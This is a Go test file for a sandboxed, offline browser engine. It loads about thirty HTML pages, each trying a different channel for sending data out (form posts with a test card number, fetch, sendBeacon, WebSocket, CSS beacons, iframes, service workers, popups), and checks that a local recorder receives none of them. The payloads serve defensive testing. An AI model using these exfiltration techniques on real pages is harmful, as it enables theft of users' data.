package browser_test

import (
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"boxd/engine/browser"
	"boxd/engine/browser/browsertest"
)

// TestExfiltrationSuite: a page with no network tries every way a page
// can send something: one page per channel, and obfuscated variants
// (timers, event handlers, iframes, a service worker, CSS url() beacons,
// popups). A loopback recorder counts what reaches it: nothing may. (The
// popups and target=_blank submissions reached it while the policy was
// enabled on the page alone: a new window is a target of its own. It is
// enabled on the browser now.)
func TestExfiltrationSuite(t *testing.T) {
	target, seen := browsertest.Host(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<p>ok</p>"))
	})
	form := `<form id="f" method="post" action="` + target + `/post"><input name="card" value="4111111111111111"><button id="b">Pay</button></form>`
	pages := map[string]string{
		"form POST by click":   form + `<script>document.getElementById("b").click()</script>`,
		"form GET navigation":  `<form id="f" method="get" action="` + target + `/get"><input name="q" value="secret"></form><script>document.getElementById("f").submit()</script>`,
		"form.submit()":        form + `<script>document.getElementById("f").submit()</script>`,
		"form.requestSubmit()": form + `<script>document.getElementById("f").requestSubmit()</script>`,
		"fetch POST":           `<script>fetch("` + target + `/fetch", {method: "POST", body: "secret"}).catch(() => {})</script>`,
		"fetch GET elsewhere":  `<script>fetch("` + target + `/fetch-get?secret=1").catch(() => {})</script>`,
		"fetch no-cors":        `<script>fetch("` + target + `/no-cors", {method: "POST", mode: "no-cors", body: "s"}).catch(() => {})</script>`,
		"XMLHttpRequest":       `<script>const x = new XMLHttpRequest(); x.open("POST", "` + target + `/xhr"); x.send("secret")</script>`,
		"sendBeacon":           `<script>navigator.sendBeacon("` + target + `/beacon", "secret")</script>`,
		"WebSocket":            `<script>try { new WebSocket("` + strings.Replace(target, "http", "ws", 1) + `/ws") } catch (e) {}</script>`,
		"EventSource":          `<script>try { new EventSource("` + target + `/sse") } catch (e) {}</script>`,
		"a ping":               `<a id="a" href="#x" ping="` + target + `/ping">x</a><script>document.getElementById("a").click()</script>`,
		"meta refresh":         `<meta http-equiv="refresh" content="0; url=` + target + `/refresh">`,
		"location assign":      `<script>location.href = "` + target + `/location?secret=1"</script>`,
		"window.open":          `<script>window.open("` + target + `/popup?secret=1")</script>`,
		"image":                `<img src="` + target + `/pixel.png?secret=1">`,
		"CSS url() beacon":     `<style>body { background: url("` + target + `/css-bg?secret=1") }</style><p>x</p>`,
		"CSS @import":          `<style>@import url("` + target + `/import.css");</style>`,
		"CSS font":             `<style>@font-face { font-family: x; src: url("` + target + `/font.woff") } p { font-family: x }</style><p>x</p>`,
		"link prefetch":        `<link rel="prefetch" href="` + target + `/prefetch"><link rel="preconnect" href="` + target + `"><link rel="dns-prefetch" href="` + target + `">`,
		"iframe":               `<iframe src="` + target + `/iframe?secret=1"></iframe>`,
		"iframe srcdoc form":   `<iframe srcdoc='<form method=post action=` + target + `/inner><input name=a value=b></form><script>document.forms[0].submit()</script>'></iframe>`,
		"timer":                `<script>setTimeout(() => fetch("` + target + `/timer", {method: "POST", body: "s"}).catch(() => {}), 100)</script>`,
		"event handler":        `<img src="data:," onerror="navigator.sendBeacon('` + target + `/onerror', 's')">`,
		"service worker":       `<script>navigator.serviceWorker && navigator.serviceWorker.register("` + target + `/sw.js").catch(() => {})</script>`,
		"dynamic script":       `<script>const s = document.createElement("script"); s.src = "` + target + `/s.js?secret=1"; document.head.appendChild(s)</script>`,
		"object and embed":     `<object data="` + target + `/object"></object><embed src="` + target + `/embed">`,
		"audio and video":      `<audio autoplay src="` + target + `/a.mp3"></audio><video autoplay src="` + target + `/v.mp4"></video>`,
		"worker":               `<script>try { new Worker("` + target + `/worker.js") } catch (e) {}</script>`,
		"base href form":       `<base href="` + target + `/"><form method="post" action="base-post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
		"form target blank":    `<form method="post" target="_blank" action="` + target + `/blank"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
		"anchor target blank":  `<a id="a" target="_blank" href="` + target + `/blank-link?secret=1">x</a><script>document.getElementById("a").click()</script>`,
	}
	t.Run("pages", func(t *testing.T) {
		for name, body := range pages {
			t.Run(name, func(t *testing.T) {
				t.Parallel() // as many at once as GOMAXPROCS
				tab := browsertest.Tab(t, browser.Policy{Network: browser.Offline})
				if err := tab.LoadHTML(`<!doctype html><html><head><title>x</title></head><body>` + body + `</body></html>`); err != nil && !strings.Contains(err.Error(), "net::") {
					t.Logf("load: %v", err)
				}
				if err := tab.Do(chromedp.Sleep(600 * time.Millisecond)); err != nil {
					t.Logf("wait: %v", err)
				}
			})
		}
	})
	time.Sleep(300 * time.Millisecond)
	if got := seen(); len(got) != 0 {
		t.Errorf("%d requests reached the recorder: %v", len(got), got)
	}
}

// TestRelease: a tab with a Release takes the one request it accepts (a
// POST to one URL of the page's own origin, answered by the tab: nothing
// leaves), and refuses the second like any other; the recorder sees none.
func TestRelease(t *testing.T) {
	target, seen := browsertest.Host(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {})
	var mu sync.Mutex
	var got [][]byte
	want := browser.DocURL + "demo/submit"
	tab := browsertest.Tab(t, browser.Policy{Network: browser.Offline, Release: func(method, u string, body []byte) bool {
		mu.Lock()
		defer mu.Unlock()
		if method != "POST" || u != want || len(got) > 0 {
			return false
		}
		got = append(got, body)
		return true
	}})
	if err := tab.LoadHTML(`<!doctype html><title>x</title><script>
fetch("/demo/submit", {method: "POST", body: "a=1"}).then(() => fetch("/demo/submit", {method: "POST", body: "a=2"})).catch(() => {});
fetch("` + target + `/leak", {method: "POST", body: "x"}).catch(() => {});
</script>`); err != nil {
		t.Fatal(err)
	}
	if err := tab.Do(chromedp.Sleep(800 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 1 || string(got[0]) != "a=1" {
		t.Errorf("released %q", got)
	}
	var second bool
	for _, r := range tab.Refused() {
		second = second || r.URL == want
	}
	if !second || len(seen()) != 0 {
		t.Errorf("the second submit refused: %v; the recorder saw %v", second, seen())
	}
}
